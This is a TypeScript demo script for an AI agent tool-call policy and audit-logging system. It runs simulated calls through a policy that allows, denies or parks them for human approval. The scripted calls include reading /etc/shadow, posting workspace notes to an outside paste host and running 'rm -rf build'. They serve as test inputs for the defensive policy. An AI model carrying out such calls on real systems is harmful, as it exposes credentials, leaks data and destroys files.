import { RECORDED_REASON, unmatched } from "@aegis/format/internal";
import type { CapabilityOutcome, RecordWriter, ExecutionOutcome, PolicyOutcome } from "@aegis/format";
import { decide, type CallAxes } from "@aegis/policy";
import { match } from "ts-pattern";
import { DEMO_POLICY } from "./policy.js";

/** One scripted tool call: what the agent asks, and what the (simulated) tool does if run. */
interface Step {
  readonly id: string;
  readonly tool: string;
  readonly path?: string;
  /** The endpoint the call names, recorded as `decision_axes.net` (so `aegis show --host` finds it). */
  readonly endpoint?: { readonly host: string; readonly port: number };
  readonly args: Record<string, string>;
  readonly runs: { readonly execution: ExecutionOutcome; readonly response?: string };
  /** A human's answer to this call's park, written as a `decision` line after it. */
  readonly approve?: boolean;
  /** Resume the call parked by this step id, under the approval it was given. */
  readonly resumes?: string;
}

const SCRIPT: readonly Step[] = [
  {
    id: "call-1",
    tool: "fs.read",
    path: "/workspace/notes.md",
    args: { path: "/workspace/notes.md" },
    runs: { execution: { status: "success" }, response: "# notes\nship the release on friday\n" },
  },
  { id: "call-2", tool: "fs.read", path: "/etc/shadow", args: { path: "/etc/shadow" }, runs: { execution: { status: "success" } } },
  {
    id: "call-3",
    tool: "net.post",
    endpoint: { host: "paste.example.net", port: 443 },
    args: { url: "https://paste.example.net/new", body: "notes" },
    runs: { execution: { status: "success" } },
  },
  { id: "call-4", tool: "shell.exec", args: { command: "rm -rf build" }, runs: { execution: { status: "success" } }, approve: true },
  {
    id: "call-5",
    tool: "shell.exec",
    args: { command: "rm -rf build" },
    runs: { execution: { status: "success" }, response: "removed build/\n" },
    resumes: "call-4",
  },
  {
    id: "call-6",
    tool: "fs.read",
    path: "/workspace/big.log",
    args: { path: "/workspace/big.log" },
    runs: { execution: { status: "resource_exceeded", kind: "output" } },
  },
];

export interface DemoCall {
  readonly id: string;
  readonly summary: string;
  readonly verdict: string;
}

/** The verbatim bytes an MCP client would send for this call; hashed as received. */
function requestBytes(step: Step): Uint8Array {
  return new TextEncoder().encode(JSON.stringify({ jsonrpc: "2.0", id: step.id, method: "tools/call", params: { name: step.tool, arguments: step.args } }));
}

/**
 * Run the script against `writer`: each call is decided by the demo's Policy Set through
 * `decide` (the same function recheck runs), its request bytes go to the writer (and so to
 * its Envelope) before the intent, and its outcome records what `decide` returned.
 */
export async function runScript(writer: RecordWriter): Promise<DemoCall[]> {
  const report: DemoCall[] = [];
  const approvals = new Map<string, string>();
  for (const step of SCRIPT) {
    const approvalRef = step.resumes === undefined ? undefined : approvals.get(step.resumes);
    const axes: CallAxes = {
      capability: step.tool,
      role: "agent",
      session: "demo",
      ...(step.path === undefined ? {} : { fs: { path_raw: step.path, path_canonical: step.path } }),
      ...(step.endpoint === undefined ? {} : { net: step.endpoint }),
      ...(approvalRef === undefined ? {} : { approval_ref: approvalRef }),
    };
    const decision = decide(DEMO_POLICY, { tool_id: step.tool, axes });
    await writer.beginCall({ call_id: step.id, tool_id: step.tool, policy_set_hash: decision.policy_set_hash, request: requestBytes(step) });
    // The scripted tool runs in no time; what is recorded is what was measured, never more
    // than the Lines' own times say (SPEC §5: wall_ms), and no memory figure it did not take.
    const started = performance.now();
    const allowed = decision.policy.status === "allowed";
    const capability: CapabilityOutcome = allowed
      ? {
          status: "granted",
          grant: {
            grant_id: `grant-${step.id}`,
            tool_id: step.tool,
            ...(step.path === undefined ? {} : { fs: { read_paths: ["/workspace"], write_paths: [] } }),
            max_memory_bytes: 67108864,
            max_wall_ms: 30000,
            max_output_bytes: 1048576,
          },
        }
      : { status: "denied", reason: RECORDED_REASON.blockedBeforeCapability };
    const execution: ExecutionOutcome = allowed ? step.runs.execution : { status: "host_denied", reason: RECORDED_REASON.notExecuted };
    const common = {
      policy: decision.policy,
      capability,
      execution,
      decision_axes: decision.decision_axes,
      ...(allowed ? { grant_id: `grant-${step.id}`, wall_ms: Math.floor(performance.now() - started) } : {}),
    };
    const response = allowed ? step.runs.response : undefined;
    await writer.endCall(step.id, response === undefined ? common : { ...common, response: new TextEncoder().encode(response) });
    const url = step.args["url"];
    const target = step.args["path"] ?? (url === undefined ? undefined : new URL(url).host) ?? step.args["command"] ?? "";
    report.push({
      id: step.id,
      summary: `${step.tool} ${target}`,
      verdict: verdictText(decision.policy, decision.decision_axes.matched_rule, execution, approvalRef),
    });
    if (step.approve === true && decision.policy.status === "pending_approval") {
      const approval = decision.policy.approval_id;
      approvals.set(step.id, approval);
      await writer.decision({ approval_id: approval, verdict: { verdict: "approved", scope: { tool_id: step.tool } } });
      report.push({ id: "", summary: "", verdict: `a human approves ${approval} (scope: ${step.tool})` });
    }
  }
  return report;
}

function verdictText(policy: PolicyOutcome, rule: string | undefined, execution: ExecutionOutcome, approvalRef: string | undefined): string {
  const by = rule === undefined ? "" : ` (rule ${rule})`;
  return match(policy)
    .with({ status: "allowed" }, () => {
      const ran = match(execution)
        .with({ status: "success" }, () => "success")
        .with({ status: "resource_exceeded" }, (e) => `stopped: ${e.kind} limit exceeded`)
        .with({ status: "trap" }, { status: "host_denied" }, (e) => e.status)
        .exhaustive(unmatched);
      return `${approvalRef === undefined ? `allowed${by}` : `allowed under approval ${approvalRef}`} -> ${ran}`;
    })
    .with({ status: "denied" }, (p) => `denied${by}: ${p.reason}`)
    .with({ status: "rate_limited" }, () => `rate limited${by}`)
    .with({ status: "pending_approval" }, (p) => `parked for approval ${p.approval_id}${by}`)
    .exhaustive(unmatched);
}
